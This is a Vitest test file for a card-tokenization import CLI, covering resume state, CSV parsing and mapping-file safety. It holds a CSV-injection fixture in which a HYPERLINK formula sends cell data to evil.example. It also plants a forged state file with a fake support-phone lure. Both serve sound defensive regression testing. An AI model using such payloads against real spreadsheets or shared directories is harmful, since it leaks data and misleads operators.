import { createHash, randomUUID } from "node:crypto";
import { chownSync, mkdtempSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from "node:fs";
import { hostname, tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { runImport } from "../../scripts/cli/import.ts";

const quiet = { write: () => true, isTTY: false };
const dir = () => mkdtempSync(join(tmpdir(), "svc-review-"));
const card = (i: number, extra: Record<string, unknown> = {}) => ({
  type: "card",
  data: { number: "4242424242424242", expiration_month: 1 + (i % 12), expiration_year: 2030 },
  ...extra,
});

/** A vault that tokenizes anything: every request of a batch answered with a fresh token id. */
let sent: number;
/** The requests it received, in order. */
let received: unknown[];
beforeEach(() => {
  sent = 0;
  received = [];
  vi.stubGlobal(
    "fetch",
    vi.fn(async (_url: string, init: { body?: string }) => {
      const batch = JSON.parse(init.body ?? "[]") as unknown[];
      sent += batch.length;
      received.push(...batch);
      const now = new Date().toISOString();
      return new Response(JSON.stringify(batch.map(() => ({ id: randomUUID(), created_at: now }))), {
        status: 201,
        headers: { "content-type": "application/json", date: new Date().toUTCString() },
      });
    }),
  );
});
afterEach(() => vi.unstubAllGlobals());

const options = (file: string) => ({
  file,
  url: "http://127.0.0.1:1",
  key: "key_test",
  batchSize: 5,
  concurrency: 1,
  progress: quiet,
});

/** An import of 20 cards stopped after its second batch (of 5): its state records two finished batches. */
async function interruptedImport() {
  const folder = dir();
  const file = join(folder, "cards.jsonl");
  writeFileSync(file, `${Array.from({ length: 20 }, (_, i) => JSON.stringify(card(i))).join("\n")}\n`);
  const abort = new AbortController();
  let batches = 0;
  await expect(
    runImport({
      ...options(file),
      signal: abort.signal,
      onBatch: () => {
        if (++batches === 2) abort.abort();
      },
    }),
  ).rejects.toThrow();
  expect(sent).toBeGreaterThanOrEqual(10);
  return { folder, file };
}

describe("import CLI: import state and mapping on resume", () => {
  it("refuses a state file planted as a symbolic link (it was: read and trusted, nothing imported, success reported)", async () => {
    const folder = dir();
    const file = join(folder, "cards.jsonl");
    writeFileSync(file, `${Array.from({ length: 10 }, (_, i) => JSON.stringify(card(i))).join("\n")}\n`);
    // The attacker (another local user of a shared directory) can read the input, so knows its SHA-256.
    const sha = createHash("sha256").update(readFileSync(file)).digest("hex");
    const planted = join(mkdtempSync(join(tmpdir(), "attacker-")), "state");
    writeFileSync(
      planted,
      [
        { version: 1, file_sha256: sha, batch_size: 5, id_column: null, key_secret: "00" },
        { batch: 0, records: 5, created: 5, deduplicated: 0, failed: [], mapping_bytes: 0 },
        { batch: 1, records: 5, created: 5, deduplicated: 0, failed: [], mapping_bytes: 0 },
      ]
        .map((l) => JSON.stringify(l))
        .join("\n"),
    );
    symlinkSync(planted, `${file}.import-state`);
    expect(readlinkSync(`${file}.import-state`)).toBe(planted);

    // It was: sent 0, summary { records: 10, created: 10, failed: [] }, a mapping with no row, exit 0.
    await expect(runImport(options(file))).rejects.toThrow(/symbolic link/);
    expect(sent).toBe(0);
  });

  it("refuses a state file owned by another user (it was: read and trusted, its failures reported as the import's)", async () => {
    if (process.getuid?.() !== 0) return; // needs chown
    const folder = dir();
    const file = join(folder, "cards.jsonl");
    writeFileSync(file, `${Array.from({ length: 5 }, (_, i) => JSON.stringify(card(i))).join("\n")}\n`);
    const sha = createHash("sha256").update(readFileSync(file)).digest("hex");
    writeFileSync(
      `${file}.import-state`,
      [
        { version: 1, file_sha256: sha, batch_size: 5, id_column: null, key_secret: "00" },
        {
          batch: 0,
          records: 5,
          created: 0,
          deduplicated: 0,
          failed: [{ line: 1, status: 400, detail: "Call +1-555-0100 to fix your import" }],
          mapping_bytes: 0,
        },
      ]
        .map((l) => JSON.stringify(l))
        .join("\n"),
    );
    chownSync(`${file}.import-state`, 65534, 65534);

    // It was: sent 0, summary.failed = the planted failure, printed to the terminal.
    await expect(runImport(options(file))).rejects.toThrow(/not a regular file of yours/);
    expect(sent).toBe(0);
  });

  it("refuses to resume without the mapping of the finished batches (it was: their token ids lost for good, success reported)", async () => {
    const { folder, file } = await interruptedImport();

    // The operator resumes with the mapping written elsewhere (or the first one deleted).
    // It was: { records: 20, created: 20, failed: [] } with 10 mapping rows: 10 token ids gone for good.
    await expect(runImport({ ...options(file), mappingFile: join(folder, "other.csv") })).rejects.toThrow(
      /is missing/,
    );
    // The first run's mapping still resumes.
    const summary = await runImport(options(file));
    expect(readFileSync(summary.mapping_file, "utf8").trim().split("\n").slice(1)).toHaveLength(20);
  });

  it("refuses a mapping file shorter than the state records (it was: ftruncate pads it with NUL bytes)", async () => {
    const { folder, file } = await interruptedImport();
    const other = join(folder, "other.csv");
    writeFileSync(other, "x\n");
    await expect(runImport({ ...options(file), mappingFile: other })).rejects.toThrow(/shorter/);
    expect(readFileSync(other, "utf8")).toBe("x\n");
  });

  it("counts a token of a finished batch, answered again after the resume, as a deduplication (read back from the mapping line by line)", async () => {
    const { file } = await interruptedImport();
    const mapped = readFileSync(`${file}.mapping.csv`, "utf8").trim().split("\n").slice(1);
    const earlier = mapped[0]?.split(",").at(-1) ?? "";
    // The vault answers the resumed batches' first line with a token the first run was given (the same card).
    vi.stubGlobal(
      "fetch",
      vi.fn(async (_url: string, init: { body?: string }) => {
        const batch = JSON.parse(init.body ?? "[]") as unknown[];
        const now = new Date().toISOString();
        const tokens = batch.map((_, i) => ({ id: i === 0 ? earlier : randomUUID(), created_at: now }));
        return new Response(JSON.stringify(tokens), { status: 201 });
      }),
    );
    const summary = await runImport(options(file));
    // Counted once by the first run: each later batch's first line is a deduplication, never a second creation.
    const resumedBatches = (20 - mapped.length) / 5;
    expect(summary).toMatchObject({ records: 20, deduplicated: resumedBatches });
    expect(summary.created).toBe(20 - resumedBatches);
  });
});

describe("import CLI: mapping file content", () => {
  it('never writes an external id as a spreadsheet formula (it was: `"=HYPERLINK(…` as is: CSV injection)', async () => {
    const folder = dir();
    const file = join(folder, "cards.csv");
    writeFileSync(
      file,
      'type,data.number,customer_id\ncard,4242424242424242,"=HYPERLINK(""https://evil.example/?""&A1,""open"")"\n',
    );
    const summary = await runImport({ ...options(file), idColumn: "customer_id" });
    const row = readFileSync(summary.mapping_file, "utf8").trim().split("\n")[1] ?? "";
    // It was written starting `"=`: a spreadsheet strips the quotes and evaluates the formula.
    expect(row).toMatch(/^2,"'=HYPERLINK\(/);
  });
});

describe("import CLI: the input's lines", () => {
  it("skips a line longer than the service's body limit as it streams by (it was: read whole, parsed and sent: memory grows with the longest line)", async () => {
    const folder = dir();
    const file = join(folder, "big.jsonl");
    const huge = "x".repeat(20 * 1024 * 1024);
    writeFileSync(file, `${JSON.stringify(card(1, { metadata: { note: huge } }))}\n`);
    let largest = 0;
    vi.stubGlobal(
      "fetch",
      vi.fn(async (_url: string, init: { body?: string }) => {
        largest = Math.max(largest, (init.body ?? "").length);
        return new Response(JSON.stringify({ status: 413, title: "Payload Too Large" }), { status: 413 });
      }),
    );
    writeFileSync(file, `${JSON.stringify(card(2))}\n`, { flag: "a" });
    const summary = await runImport(options(file));
    // It was: a 20 MiB body was sent (largest > 20 MiB) and line 1 failed with the service's 413.
    expect(largest).toBeLessThan(1024 * 1024);
    expect(summary.failed[0]).toMatchObject({ line: 1, detail: expect.stringMatching(/longer than/) });
    expect(summary.failed[0]).not.toHaveProperty("status"); // never sent
  });
});

describe("import CLI: the vault's URL", () => {
  it("refuses a remote http:// --url (it was: a warning, then the key and the cards in the clear)", async () => {
    const { main } = await import("../../scripts/cli/main.ts");
    const folder = dir();
    const file = join(folder, "cards.jsonl");
    writeFileSync(file, `${JSON.stringify(card(1))}\n`);
    const calls: { url: string; key: string | undefined; body: string }[] = [];
    const stub = vi.fn(async (url: string, init: { body?: string; headers: Record<string, string> }) => {
      calls.push({ url, key: init.headers["svc-api-key"], body: init.body ?? "" });
      return new Response(JSON.stringify([{ id: randomUUID(), created_at: new Date().toISOString() }]), {
        status: 201,
      });
    });
    vi.stubGlobal("fetch", stub);
    const write = vi.spyOn(process.stdout, "write").mockImplementation(() => true);
    const err = vi.spyOn(process.stderr, "write").mockImplementation(() => true);
    try {
      process.env.SVC_API_KEY = "key_secret";
      const code = await main(["import", file, "--url", "http://vault.example.com"]);
      // It was: exit 0, and fetch got http://vault.example.com/tokenize with the key and the card number.
      expect(code).toBe(2);
      expect(await main(["import", file, "--url", "http://127.0.0.1:3000@vault.example.com"])).toBe(2);
    } finally {
      delete process.env.SVC_API_KEY;
      write.mockRestore();
      err.mockRestore();
    }
    expect(calls).toEqual([]);
  });
});

describe("import CLI: the API key on the command line", () => {
  it("warns that --key is readable by every local user for the whole run", async () => {
    const { main } = await import("../../scripts/cli/main.ts");
    const file = join(dir(), "cards.jsonl");
    writeFileSync(file, `${JSON.stringify(card(1))}\n`);
    const said: string[] = [];
    const write = vi.spyOn(process.stdout, "write").mockImplementation(() => true);
    const err = vi.spyOn(process.stderr, "write").mockImplementation((chunk) => {
      said.push(String(chunk));
      return true;
    });
    try {
      expect(await main(["import", file, "--key", "key_test", "--url", "http://127.0.0.1:1"])).toBe(0);
    } finally {
      write.mockRestore();
      err.mockRestore();
    }
    expect(said.join("")).toMatch(/--key puts the key on the command line/);
  });
});

describe("import CLI: a CSV record over 1 MiB", () => {
  it("is skipped as a failed line and the rest of the file imported, as a JSONL line is (docs/import.md)", async () => {
    const folder = dir();
    const file = join(folder, "cards.csv");
    const rows = ["type,data,metadata.note"];
    for (let i = 0; i < 3; i++) rows.push(`token,v${i},`);
    rows.push(`token,big,${"x".repeat(1024 * 1024 + 10)}`);
    for (let i = 3; i < 6; i++) rows.push(`token,v${i},`);
    writeFileSync(file, `${rows.join("\n")}\n`);

    // It was: the whole import stopped at line 5 ("line 5: not valid CSV (CSV_MAX_RECORD_SIZE)"), every resume
    // stopped there again, and the three lines after it can never be imported without editing the file (which
    // changes its SHA-256: the state no longer matches, the import starts over).
    const summary = await runImport(options(file));
    expect(summary.failed).toEqual([expect.objectContaining({ line: 5 })]);
    expect(sent).toBe(6);
  });
});

describe("import CLI: CSV records over several lines", () => {
  it("reads a quoted field's line breaks as the field's, and numbers lines as the file does", async () => {
    const file = join(dir(), "notes.csv");
    writeFileSync(file, 'type,data,note\ntoken,a,"two\nlines"\ntoken,b,x,extra\ntoken,c,"last\nunended');
    await expect(runImport(options(file))).rejects.toThrow(/line 5: not valid CSV \(CSV_QUOTE_NOT_CLOSED\)/);

    const fixed = join(dir(), "notes.csv");
    writeFileSync(fixed, 'type,data,note\ntoken,a,"two\nlines"\ntoken,b,x,extra\ntoken,c,"ok"');
    const summary = await runImport(options(fixed));
    expect(summary.failed).toEqual([expect.objectContaining({ line: 4 })]); // the row of 4 columns
    expect(sent).toBe(2);
  });
});

describe("import CLI: the mapping's formula quoting", () => {
  it("keeps an external id distinguishable from another (a leading ' is added, never escaped)", async () => {
    const folder = dir();
    const file = join(folder, "cards.csv");
    // Two different customers: "=1" and "'=1" (the second really starts with a quote).
    writeFileSync(file, "type,data,customer\ntoken,a,=1\ntoken,b,'=1\n");
    const summary = await runImport({ ...options(file), idColumn: "customer" });
    const external = readFileSync(summary.mapping_file, "utf8")
      .trim()
      .split("\n")
      .slice(1)
      .map((row) => row.split(",")[1]);
    // It was: both written as '=1: which token is whose can no longer be told from the mapping.
    expect(new Set(external).size).toBe(2);
  });
});

/** Either every row reached the vault, or the import stopped: never a success with rows silently left out. */
async function importedOrStopped(file: string, rows: number) {
  let summary: Awaited<ReturnType<typeof runImport>>;
  try {
    summary = await runImport(options(file));
  } catch (error) {
    expect((error as Error).message).toMatch(/not valid CSV/);
    return;
  }
  expect(sent + summary.failed.length).toBe(rows);
}

describe("import CLI: CSV it once lost rows of without stopping (review round 3, 28 Nov 2026)", () => {
  it("a CSV with CR line endings (Excel for Mac's 'CSV (Macintosh)')", async () => {
    const file = join(dir(), "mac.csv");
    writeFileSync(file, "type,data\rtoken,a\rtoken,b\rtoken,c\r");
    await importedOrStopped(file, 3);
  });

  it("a lone CR between two records of a LF file (mixed line endings)", async () => {
    const file = join(dir(), "mixed.csv");
    writeFileSync(file, "type,data\ntoken,a\ntoken,b\rtoken,c\ntoken,d\n");
    await importedOrStopped(file, 4);
  });

  it("a stray quote with more than 1 MiB of valid rows after it", async () => {
    const file = join(dir(), "stray.csv");
    const rows = ["type,data,metadata.note", "token,a,ok", 'token,b,5" screen'];
    for (let i = 0; i < 20_000; i++) rows.push(`token,v${i},${"n".repeat(50)}`);
    writeFileSync(file, `${rows.join("\n")}\n`);
    await importedOrStopped(file, 20_002);
  });
});

describe("import CLI: CSV it reads", () => {
  it('a BOM before a quoted header, quoted fields with "", CRLF inside and around them, a long valid field skipped', async () => {
    const file = join(dir(), "ok.csv");
    const rows = [
      '\uFEFF"type","data",note',
      'token,"a ""quoted"" one","x"',
      'token,"two\r\nlines",',
      `token,"${"y".repeat(1024 * 1024 + 5)}\nmore",n`,
      'token,"e",""',
      "token,last,z",
    ];
    writeFileSync(file, `${rows.join("\r\n")}`);
    const summary = await runImport(options(file));
    expect(summary.failed).toEqual([expect.objectContaining({ line: 6 })]); // the long record's last line
    expect(received).toHaveLength(4);
    expect(received[0]).toMatchObject({ type: "token", data: 'a "quoted" one', note: "x" });
    expect(received[1]).toMatchObject({ data: "two\r\nlines" });
  });
});

describe("import CLI: a CSV that stops the import (review round 4, 28 Nov 2026)", () => {
  it("stops before sending anything (it sends every batch before the bad record; once the file is fixed the state is refused)", async () => {
    const file = join(dir(), "cards.csv");
    const rows = ["type,data"];
    for (let i = 0; i < 20; i++) rows.push(`token,v${i}`);
    rows.push('token,5" screen'); // line 22
    for (let i = 20; i < 25; i++) rows.push(`token,v${i}`);
    writeFileSync(file, `${rows.join("\n")}\n`);

    await expect(runImport(options(file))).rejects.toThrow(/line 22: not valid CSV/);
    const sentBeforeStop = sent;

    // The operator fixes line 22 and runs the same command again, as the error invites.
    writeFileSync(file, readFileSync(file, "utf8").replace('5" screen', "5in screen"));
    let rerun: unknown;
    try {
      await runImport(options(file));
    } catch (error) {
      rerun = (error as Error).message;
    }
    // It was: 20 rows tokenized before the stop, then "the state file ... belongs to another input ... remove it
    // to start over (tokens already created would be created again)".
    expect({ sentBeforeStop, rerun }).toEqual({ sentBeforeStop: 0, rerun: undefined });
    expect(received).toHaveLength(26); // 20 + the fixed row + 5
  });
});

describe("import CLI: a run whose lock another run took over", () => {
  it("stops before recording another batch, and leaves the other run's lock in place (review s52-a)", async () => {
    const folder = dir();
    const file = join(folder, "cards.jsonl");
    writeFileSync(file, `${Array.from({ length: 20 }, (_, i) => JSON.stringify(card(i))).join("\n")}\n`);
    const lock = `${file}.import-state.lock`;
    const other = `${process.ppid}\n${hostname()}\nanother-run\n`;
    let batches = 0;
    await expect(
      runImport({
        ...options(file),
        // After the first batch, the lock names another run (it took this one's over in a race).
        onBatch: () => {
          if (++batches === 1) writeFileSync(lock, other);
        },
      }),
    ).rejects.toThrow(/no longer names this run/);
    const batchesNamed = new Set(
      readFileSync(`${file}.import-state`, "utf8")
        .trim()
        .split("\n")
        .slice(1)
        .map((line) => (JSON.parse(line) as { batch: number }).batch),
    );
    expect({ sent, batchesNamed: [...batchesNamed], lock: readFileSync(lock, "utf8") }).toEqual({
      sent: 5,
      batchesNamed: [0],
      lock: other,
    });
  });
});
